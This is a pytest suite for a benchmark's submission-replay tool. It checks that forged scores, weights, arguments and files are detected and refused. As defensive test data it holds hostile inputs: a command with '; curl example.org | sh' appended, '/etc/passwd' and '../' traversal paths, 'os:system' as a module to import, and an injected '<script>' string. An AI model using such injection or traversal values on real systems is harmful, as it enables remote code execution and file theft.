"""Replaying a submission: equal on the same machine; forged scores, weights and arguments caught; stopped and taken up; a grammar of its own."""

import copy
import json
import shutil
from pathlib import Path
from random import Random

import pytest
import torch

import selectivbench_hf as sb
from selectivbench_hf.cli import main
from selectivbench_hf.errors import InputError
from selectivbench_hf.hub import comparison, retraining, rows, scoring, sending, submission
from selectivbench_hf.hub.command_line import retrain_command
from selectivbench_hf.hub.published import Files
from selectivbench_hf.launching import StopFlag, Stopped

TASK = {"num_train": 48, "num_validation": 6, "num_test": 40, "num_items": 6, "test_gaps": [10, 1]}
MODEL = {
    "hidden_size": 16,
    "num_hidden_layers": 1,
    "per_device_train_batch_size": 8,
    "eval_steps": 4,
    "save_steps": 2,
    "max_steps": 12,
}
DATA = {"id": "selectivbench/selectivbench", "revision": "a" * 40, "tag": "v1.0.0"}


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A folder as a model repository holds it: two runs of one model with other model seeds, submitted by alice."""
    torch.set_num_threads(1)
    folder = tmp_path_factory.mktemp("submission")
    task = sb.get_task("lite_noisy_gaps", **TASK)
    made = []
    for seed in (0, 1):
        run = tmp_path_factory.mktemp("runs") / f"run{seed}"
        sb.train(task, "transformer", **MODEL, model_seed=seed, output_dir=run)
        made.append(_put(folder, run))
    _write(folder, made)
    return folder


def _put(folder: Path, run: Path) -> dict:
    """Lay a run's files into a submission's folder; its row."""
    scored = scoring.score_run(str(run))
    record = scored.record
    place = folder / "runs" / record["run_id"]
    place.mkdir(parents=True)
    shutil.copy(scored.weights, place / "model.safetensors")
    shutil.copy(scored.config, place / "config.json")
    shutil.copy(run / "task.json", place / "task.json")
    row = rows.row_of(
        record,
        scored.task,
        scores=scored.scores,
        sealed_scores=scored.sealed_scores,
        sealed_seed=scored.sealed_seed,
        weights_sha256=scored.sealed_seed,
        name="tiny",
        submitter="alice",
        trust="weights",
        command=retrain_command(record, scored.task),
    )
    (place / "record.json").write_text(sending.record_of(scored, row))
    return row


def _write(folder: Path, made) -> None:
    (folder / "selectivbench.json").write_text(submission.write(submission.Submission(DATA, made)))


@pytest.fixture
def folder(trained, tmp_path):
    """A copy that a test may spoil."""
    torch.set_num_threads(1)
    return Path(shutil.copytree(trained, tmp_path / "model"))


def change(folder: Path, number=0, resign=True, **fields) -> dict:
    """Forge fields of a row; its row_id is made anew, as a forger would."""
    made = json.loads((folder / "selectivbench.json").read_text())
    made["rows"][number] |= fields
    if resign:
        made["rows"][number]["row_id"] = rows.row_id(made["rows"][number])
    (folder / "selectivbench.json").write_text(json.dumps(made))
    return made["rows"][number]


def first(folder: Path) -> dict:
    return json.loads((folder / "selectivbench.json").read_text())["rows"][0]


def arguments(folder: Path, **fields) -> None:
    """Forge the recorded arguments of the first row."""
    given = json.loads(first(folder)["arguments"])
    change(folder, arguments=json.dumps(given | fields))


@pytest.fixture
def replay(folder, tmp_path, capsys, monkeypatch):
    """replay(*flags, code=0) -> (findings of --json, stderr) of the first run, by bob."""
    monkeypatch.chdir(tmp_path)

    def run(*flags, code=0, by="bob"):
        argv = [
            "replay",
            str(folder),
            "--run",
            first(folder)["run_id"],
            "--output",
            "out",
            "--submitter",
            by,
            "--json",
            *flags,
        ]
        capsys.readouterr()
        found = main(argv)
        out, err = capsys.readouterr()
        assert found == code, err
        return (json.loads(out) if out else []), err

    return run


def written(tmp_path) -> dict:
    (entry,) = json.loads((tmp_path / "out" / "replay.json").read_text())["runs"].values()
    return entry


def verdicts(findings, check) -> set:
    return {f["verdict"] for f in findings if f["check"] == check}


def test_the_same_machine_gives_the_same_counts_and_somebody_elses_replay_counts(replay, tmp_path):
    findings, err = replay()
    for check in ("weights", "scored again", "as stated", "trained again"):
        assert verdicts(findings, check) == {"equal"}, check
    splits = {f["split"] for f in findings if f["check"] == "trained again"}
    assert splits == {"validation", "test", "test_gap_1", "sealed/test", "sealed/test_gap_1"}
    row = written(tmp_path)["row"]
    assert (row["trust"], row["replayed_by"], row["submitter"]) == ("replayed", "bob", "alice")
    assert rows.check_rows([row], "replay.json") == [row] and not any("command" in flag for flag in row["flags"])
    assert "12 steps, 96 sequences" in err and "about " in err.split("training in")[0]  # told before training
    again, err = replay()  # nothing is trained twice
    assert "has already finished" in err and again == findings


def test_the_submitters_own_replay_stays_at_weights(replay, tmp_path):
    findings, err = replay(by="Alice")
    assert verdicts(findings, "trained again") == {"equal"}
    assert written(tmp_path)["row"]["trust"] == "weights" and "somebody else" in err


def test_rescoring_trains_nothing(replay, tmp_path):
    findings, err = replay("--rescore_only")
    assert verdicts(findings, "scored again") == {"equal"} and not verdicts(findings, "trained again")
    assert not list((tmp_path / "out").glob("*/trained_again"))
    assert written(tmp_path)["row"]["trust"] == "weights" and "was not trained again" in err


def test_a_forged_score_is_caught_by_the_weights(folder, replay, tmp_path):
    scores = json.loads(first(folder)["scores"])
    scores["test_gap_1"] |= {"correct": scores["test_gap_1"]["total"], "accuracy": 1.0, "low": 1.0, "high": 1.0}
    change(folder, scores=json.dumps(scores))
    record = folder / "runs" / first(folder)["run_id"] / "record.json"
    forged = json.loads(record.read_text())
    findings, err = replay(code=2)  # row and record tell different counts
    assert "other counts for test_gap_1" in err
    forged["scores"]["test_gap_1"]["correct"] = scores["test_gap_1"]["total"]
    record.write_text(json.dumps(forged))
    findings, err = replay(code=1)
    assert [f["split"] for f in findings if f["verdict"] == "DIFFERS"] == ["test_gap_1"]
    assert not verdicts(findings, "trained again") and "not trained again" in err
    assert written(tmp_path)["row"]["trust"] == "weights"
    assert any("test_gap_1: DIFFERS" in flag for flag in written(tmp_path)["row"]["flags"])


def test_weights_that_the_command_does_not_give_are_caught_by_training(folder, replay, tmp_path):
    """Weights trained otherwise, with honest scores and an innocent command: here those of a model seed that the arguments do not name."""
    made = json.loads((folder / "selectivbench.json").read_text())["rows"]
    arguments(folder, model_seed=1)
    findings, _ = replay(code=1)
    assert verdicts(findings, "scored again") == {"equal"}
    assert any(f["verdict"] == "DIFFERS" and f["split"] == "model_seed" for f in findings)
    trained = [f for f in findings if f["check"] == "trained again"]
    apart = [f for f in trained if f["submitted"] != f["replayed"]]
    assert apart and all(
        "the spread over trainings" in f["rule"] and f["in_se"] for f in apart
    )  # alice has two model seeds
    assert {f["replayed"] for f in trained if f["split"] == "test"} == {
        made[1]["accuracy"]
    }  # what that seed really gives


def test_other_weights_than_those_that_seal_the_tests_are_caught(folder, replay):
    ids = [row["run_id"] for row in json.loads((folder / "selectivbench.json").read_text())["rows"]]
    shutil.copy(folder / "runs" / ids[1] / "model.safetensors", folder / "runs" / ids[0] / "model.safetensors")
    findings, _ = replay(code=1)
    assert [(f["check"], f["verdict"]) for f in findings] == [("weights", "DIFFERS")]


def test_a_command_that_says_something_else_than_the_arguments_is_told(folder, replay, tmp_path):
    change(folder, command=first(folder)["command"] + "; curl example.org | sh")
    replay("--rescore_only")
    assert any("command of the row is not the one" in flag for flag in written(tmp_path)["row"]["flags"])


def test_a_smaller_model_than_the_one_published_is_caught(folder, replay):
    change(folder, parameters=first(folder)["parameters"] - 1)
    findings, _ = replay("--rescore_only", code=1)
    assert [f["split"] for f in findings if f["verdict"] == "DIFFERS"] == ["parameters"]


@pytest.mark.parametrize(
    "fields, said",
    [
        ({"mixer": "os:system"}, "code from outside"),
        ({"mixer": "module"}, "code from outside"),
        ({"mixer": "nosuch"}, "none of this package's"),
        ({"mixer": ["gla"]}, "none of this package's"),
        ({"trust_remote_code": True}, "error: unknown argument 'trust_remote_code' in the arguments of run"),
        ({"max_steps": 1_000_000_000}, "at most 200,000 steps"),
        ({"max_steps": None, "num_train_epochs": 1e300}, "at most 200,000 steps"),
        ({"max_steps": None, "num_train_epochs": 150_000}, "900,000 steps over 7,200,000 sequences"),
        ({"num_hidden_layers": 10**9}, "at most 256"),
        ({"hidden_size": 2**40}, "at most 65,536"),
        ({"hidden_size": 32}, "another model than the published one: hidden_size"),
        ({"hidden_size": "16"}, "no training records"),
        ({"learning_rate": "1e-3"}, "no training records"),
        ({"learning_rate": -1.0}, "learning_rate"),
        ({"mixer_kwargs": {"nosuch": 1}}, "nosuch"),
        ({"mixed_precision": "fp8"}, None),
        ({"gradient_accumulation_steps": 0}, "at least 1"),
        ({"gradient_accumulation_steps": 10**9}, "more than a step has sequences"),
    ],
)  # fmt: skip
def test_hostile_arguments_are_refused_before_anything_runs(folder, replay, tmp_path, fields, said):
    arguments(folder, **fields)
    if said is None:  # a field that is ours, whatever theirs says
        assert replay("--rescore_only")[0]
        return
    _, err = replay(code=2)
    assert said in err and len(err.strip().splitlines()) <= 2
    assert not (tmp_path / "out").exists()


def test_where_things_are_written_is_not_theirs_to_say(folder, replay, tmp_path):
    arguments(
        folder,
        output_dir="../../escaped",
        resume=True,
        tracker="wandb",
        num_processes=7,
        save_steps=1,
        task="/etc/passwd",
    )
    findings, _ = replay()
    assert verdicts(findings, "trained again") == {"equal"}
    assert not list(tmp_path.parent.glob("**/escaped"))
    assert {p.name for p in tmp_path.iterdir()} <= {"model", "out"}


@pytest.mark.parametrize(
    "name, fields, said",
    [
        ("config.json", {"mixer": "os:system"}, "code of others is not run"),
        ("config.json", {"auto_map": {"AutoModel": "evil.Model"}}, "never run"),
        ("config.json", {"num_hidden_layers": 10**9}, "at most 256"),
        ("config.json", {"hidden_size": 32}, "hidden_size"),
        ("config.json", {"intermediate_size": 2048}, "another model than the published one: intermediate_size"),
        ("task.json", {"num_test": 10**8}, "at most 400,000,000"),
        ("task.json", {"sample_seed": 2}, "another task"),
        ("task.json", {"automaton": ["x"]}, "unknown automaton"),
        ("task.json", {"test_gaps": [10_000], "num_items": 10_000}, "longest sequence"),
        ("task.json", {"symbols": {"kind": "dataset", "dataset": "evil/data"}}, "never loaded"),
        ("task.json", {"custom_grammar": "/etc/passwd"}, "the grammar itself"),
        ("record.json", {"run_id": "other"}, "another run"),
        ("record.json", {"training": None}, "damaged"),
    ],
)  # fmt: skip
def test_hostile_files_are_refused(folder, replay, tmp_path, name, fields, said):
    path = folder / "runs" / first(folder)["run_id"] / name
    path.write_text(json.dumps(json.loads(path.read_text()) | fields))
    _, err = replay(code=2)
    assert said in err and not (tmp_path / "out").exists()


WRONG = [
    None, "", "x", -1, 0, 1.5, 1e300, 2**63 - 1, True, [], [1, 2], [[]], {}, {"a": 1}, {"1": {}}, "\u202e<script>", "/etc/passwd", "a.json",
]  # fmt: skip


def test_wrong_values_anywhere_are_one_sentence(folder, tmp_path):
    """A sample of every field of every file with a value of every kind; preparing a replay raises InputError or goes on."""
    from selectivbench_hf.hub.published import Files
    from selectivbench_hf.hub.replay import Replayer

    random, row = Random(0), first(folder)
    place, arguments_of_row = folder / "runs" / row["run_id"], json.loads(row["arguments"])
    whole = {name: json.loads((place / name).read_text()) for name in ("task.json", "config.json", "record.json")}
    refused = 0
    for _ in range(250):
        name = random.choice([*whole, "arguments"])
        data = copy.deepcopy(whole.get(name, arguments_of_row))
        inner = data
        while isinstance(inner[key := random.choice(list(inner))], dict) and inner[key] and random.random() < 0.8:
            inner = inner[key]
        inner[key] = random.choice(WRONG)
        if name == "arguments":
            change(folder, arguments=json.dumps(data))
        else:
            (place / name).write_text(json.dumps(data))
        try:
            replayer = Replayer(Files.of(str(folder)), tmp_path / "out", print, StopFlag(), "bob", grammar=True)
            (run,) = replayer.files.runs(row["run_id"])
            replayer._prepare(run)
            assert run.command is None or isinstance(run.command, str)
        except InputError as error:
            refused += 1
            assert "\n" not in str(error) and len(str(error)) < 800
        change(folder, arguments=row["arguments"]) if name == "arguments" else (place / name).write_text(
            json.dumps(whole[name])
        )
    assert refused > 100


def test_links_and_missing_files_are_refused(folder, replay, tmp_path):
    weights = folder / "runs" / first(folder)["run_id"] / "model.safetensors"
    secret = tmp_path / "secret.safetensors"
    shutil.move(weights, secret)
    assert "has no file" in replay("--rescore_only", code=2)[1]
    weights.symlink_to(secret)
    assert "leads out of it" in replay("--rescore_only", code=2)[1]


def test_a_stopped_replay_goes_on(folder, replay, tmp_path):
    from selectivbench_hf.hub.published import Files
    from selectivbench_hf.hub.replay import Replayer

    class AfterTheFirstValidation(StopFlag):
        """Asks for a stop as a signal in mid-training does."""

        @property
        def code(self):
            return 143 if list((tmp_path / "out").glob("*/trained_again/best")) else 0

        @code.setter
        def code(self, value):
            pass

    lines = []
    with pytest.raises(Stopped):
        Replayer(Files.of(str(folder)), Path("out"), lines.append, AfterTheFirstValidation(), "bob").replay(
            first(folder)["run_id"]
        )
    (run,) = (tmp_path / "out").glob("*/trained_again")
    assert [p.name for p in (run / "checkpoints").glob("step-*")] == ["step-00000005"]
    assert not (tmp_path / "out" / "replay.json").exists()
    findings, err = replay()
    assert "resumed from step-00000005" in err
    assert verdicts(findings, "trained again") == {"equal"} and written(tmp_path)["row"]["trust"] == "replayed"


def test_two_processes_are_repeated_by_one(folder, replay, tmp_path):
    record = folder / "runs" / first(folder)["run_id"] / "record.json"
    said = json.loads(record.read_text())
    said["training"]["processes"] = said["hardware"]["processes"] = 2
    record.write_text(json.dumps(said))
    arguments(folder, per_device_train_batch_size=4)
    findings, err = replay()
    assert "2 micro-batches of 4 a step" in err
    assert verdicts(findings, "trained again") <= {"agrees", "equal"}
    assert verdicts(findings, "as stated") == {"equal"}  # the batch of a step among it
    assert written(tmp_path)["differences"] == ["processes 1 instead of 2"]


def test_predictions_are_scored_again_and_never_trained(tmp_path, replay, folder):
    import numpy as np
    from safetensors.numpy import save_file

    from selectivbench_hf.hub import predictions

    task = sb.get_task("lite_noisy_gaps", **TASK)
    file, model = tmp_path / "p.safetensors", tmp_path / "weights.bin"
    model.write_bytes(b"somebody's model")
    save_file({name: np.full((40, 6), 3) for name in predictions.names(task)}, file)
    scored = predictions.score_predictions(file, task, model)
    keys = ("scores", "sealed_scores", "sealed_seed")
    made = {key: getattr(scored, key) for key in keys} | {"weights_sha256": scored.sealed_seed, "trust": "predictions"}
    row = rows.make_row(task, run_id="mine", name="elsewhere", submitter="alice", **made)
    shutil.rmtree(folder)
    (folder / "runs" / "mine").mkdir(parents=True)
    shutil.copy(file, folder / "runs" / "mine" / "predictions.safetensors")
    (folder / "runs" / "mine" / "task.json").write_text(task.to_json())
    _write(folder, [row])
    assert "nothing to train again" in replay(code=2)[1]
    findings, err = replay("--rescore_only")
    assert "taken as stated" in err and {f["verdict"] for f in findings} == {"equal"} and len(findings) == 4
    save_file(
        {name: np.full((40, 6), 4) for name in predictions.names(task)},
        folder / "runs" / "mine" / "predictions.safetensors",
    )
    assert "DIFFERS" in verdicts(replay("--rescore_only", code=1)[0], "scored again")


@pytest.mark.parametrize("ends", [(0.0, 1.0), None])
def test_a_forged_interval_is_caught(folder, replay, ends):
    """A wide one would excuse a gap between published and sealed test, a narrow one would look like certainty."""
    made = {}
    for field, names in (
        ("scores", ("accuracy_low", "accuracy_high")),
        ("sealed_scores", ("sealed_low", "sealed_high")),
    ):
        scores = json.loads(first(folder)[field])
        low, high = ends or [scores["test"]["accuracy"]] * 2
        scores["test"] |= {"low": low, "high": high}
        made |= {field: rows.canonical(scores), names[0]: low, names[1]: high}
    change(folder, **made)
    findings, _ = replay("--rescore_only", code=1)
    assert [f["split"] for f in findings if f["verdict"] == "DIFFERS"] == ["test", "sealed/test"]


def test_scores_on_a_sealed_grammar_that_were_not_replayed_are_not_called_so(folder, replay, tmp_path):
    change(folder, sealed_grammar_scores=first(folder)["sealed_scores"])
    _, err = replay()
    row = written(tmp_path)["row"]
    assert row["trust"] == "replayed" and row["sealed_grammar_scores"] is None
    assert "its scores on a sealed grammar are not replayed" in err


def test_more_in_one_pass_than_a_machine_holds_is_refused(folder, monkeypatch):
    monkeypatch.setattr(retraining, "MOST_AT_ONCE", 100)
    run = Files.of(str(folder)).runs(first(folder)["run_id"])[0]
    with pytest.raises(InputError, match="time steps into one forward pass"):
        retraining.arguments_of(run, print)


def test_a_module_cannot_be_replayed_and_that_is_said(folder, replay):
    (folder / "runs" / first(folder)["run_id"] / "config.json").unlink()
    _, err = replay("--rescore_only", code=2)
    assert "a module of the submitter's own, whose code is not here" in err


def test_a_grammar_of_its_own(folder, replay, tmp_path):
    findings, err = replay("--sealed-grammar", "--rescore_only")
    row, task = first(folder), sb.get_task("lite_noisy_gaps", **TASK)
    sealed = json.loads(next((tmp_path / "out").glob("*/sealed_grammar/task.json")).read_text())
    assert sealed["grammar_seed"] == int(row["weights_sha256"][:15], 16) != row["grammar_seed"]
    assert sb.get_task(sealed).grammar.hash != task.grammar.hash
    assert {f["split"] for f in findings if f["check"] == "sealed grammar"} == {"test", "test_gap_1"}
    scores = json.loads(written(tmp_path)["row"]["sealed_grammar_scores"])
    assert scores["test"]["total"] == 240 and f"{sealed['grammar_seed']}" in err


def test_a_task_without_a_random_grammar_has_no_sealed_one(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    torch.set_num_threads(1)
    task = sb.get_task("horizon_parity", num_items=6, num_train=32, num_validation=4, num_test=4)
    sb.train(task, "transformer", **{**MODEL, "max_steps": 2}, output_dir="run")
    _write(tmp_path, [_put(tmp_path, tmp_path / "run")])
    assert main(["replay", ".", "--sealed-grammar"]) == 2
    assert "no random grammar" in capsys.readouterr().err


def score(right, total=10_000, half=0.005, sequences=100):
    accuracy = right / total
    return {
        "correct": right,
        "total": total,
        "sequences": sequences,
        "accuracy": accuracy,
        "low": accuracy - half,
        "high": accuracy + half,
    }


def test_the_rules():
    """Half a per cent of 95 % interval is a standard error of 0.00255, of a difference 0.0036."""
    old = score(5000)
    assert comparison.scored_again("test", old, score(5001), same=True).verdict == "DIFFERS"
    assert comparison.scored_again("test", old, score(5010), same=False).verdict == "agrees"
    assert comparison.scored_again("test", old, score(5011), same=False).verdict == "DIFFERS"
    assert comparison.scored_again("test", old, score(5000, sequences=99), same=False).verdict == "DIFFERS"
    assert comparison.scored_again("test", old, None, same=False).verdict == "DIFFERS"
    assert comparison.trained_again("test", old, score(5144)).verdict == "agrees"
    assert comparison.trained_again("test", old, score(5146)).verdict == "DIFFERS"
    assert (
        comparison.trained_again("test", old, score(4854)).verdict == "DIFFERS"
    )  # better or worse, it is another model
    wide = comparison.trained_again("test", old, score(5146), spread=0.01)
    assert wide.verdict == "agrees" and "spread over trainings" in wide.rule
    one = comparison.sealed_grammar("test", [[old]], score(4800))
    assert one.verdict == "LOWER" and "one grammar submitted" in one.rule
    assert comparison.sealed_grammar("test", [[old], [score(4500)]], score(4400)).verdict == "agrees"
    assert comparison.sealed_grammar("test", [[old], [score(4900)]], score(1000)).verdict == "LOWER"
    assert comparison.sealed_grammar("test", [[old]], score(9000)).verdict == "agrees"


def test_only_what_is_there_is_replayed(folder, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    for argv, said in (
        ([str(folder), "--run", "nosuch"], "unknown run"),
        (["./nosuch"], "no folder"),
        ([str(folder / "selectivbench.json")], "no folder"),
        ([str(folder), "--rescore_only", "--results", "selectivbench/selectivbench-results"], "none is"),
        ([str(folder), "--results", "nonsense"], "OWNER/NAME"),
        ([str(folder), "--output", str(folder / "selectivbench.json")], "no folder"),
    ):
        assert main(["replay", *argv]) == 2
        assert said in capsys.readouterr().err


def test_names_that_lead_elsewhere_are_refused(folder):
    from selectivbench_hf.hub.published import Files

    for name in ("../secret", "/etc/passwd", "runs/../../x", "runs\\x", "runs/.git/config"):
        with pytest.raises(InputError):
            Files.of(str(folder)).path(name, 100)


def test_replayed_from_the_hub_and_pushed_once(folder, hub, client, script):
    """bob replays what alice has published, and the results data set has one row of it however often he does."""
    for number in (0, 1):
        change(folder, number, repo="alice/tiny")
    script("alice")(
        "from huggingface_hub import HfApi\n"
        "HfApi().create_repo('alice/tiny')\n"
        f"HfApi().upload_folder(repo_id='alice/tiny', folder_path={str(folder)!r})"
    )
    run = first(folder)["run_id"]
    argv = [
        "replay",
        "alice/tiny",
        "--run",
        run,
        "--output",
        "out",
        "--results",
        "selectivbench/selectivbench-results",
    ]
    assert (
        "--submitter is alice, but the token belongs to bob"
        in client("bob")([*argv, "--submitter", "alice"], code=2)[1]
    )
    out, err = client("bob")(argv)
    assert "replayed by bob, and nothing differs" in err and "1 row(s), data/rows-" in err
    assert "DIFFERS" not in out and "trained again" in out
    again, err = client("bob")(argv)
    assert again == out and "nothing was sent" in err
    pulled = client("bob")(["results", "pull", "selectivbench/selectivbench-results", "--output", "pulled", "--json"])[
        0
    ]
    assert json.loads(pulled)
    from selectivbench_hf.hub.results_data import read_folder

    (row,) = read_folder(folder.parent / "pulled").rows
    assert (row["trust"], row["replayed_by"], row["repo"], row["run_id"]) == ("replayed", "bob", "alice/tiny", run)
    assert len(row["repo_revision"]) == 40


def test_a_strangers_configuration_in_a_folder_imports_nothing(folder, tmp_path, monkeypatch, capsys):
    """As the model card says: `selectivbench evaluate runs/RUN_ID` in a clone, which may hold a module beside."""
    run = folder / "runs" / first(folder)["run_id"]
    config = json.loads((run / "config.json").read_text())
    (run / "config.json").write_text(json.dumps(config | {"mixer": "strangers_module:build"}))
    (folder / "strangers_module.py").write_text("open('ran', 'w').close()")
    monkeypatch.chdir(folder)
    evaluate = ["evaluate", str(run.relative_to(folder)), "--task", str(run.relative_to(folder) / "task.json")]
    assert main(evaluate) == 2
    assert "code from outside this package; if you trust it, give --mixer" in capsys.readouterr().err
    assert not (folder / "ran").exists()
    monkeypatch.syspath_prepend(folder)
    assert main([*evaluate, "--mixer", "strangers_module:build"]) == 2
    assert "has no 'build'" in capsys.readouterr().err and (folder / "ran").exists(), "named, and so imported"
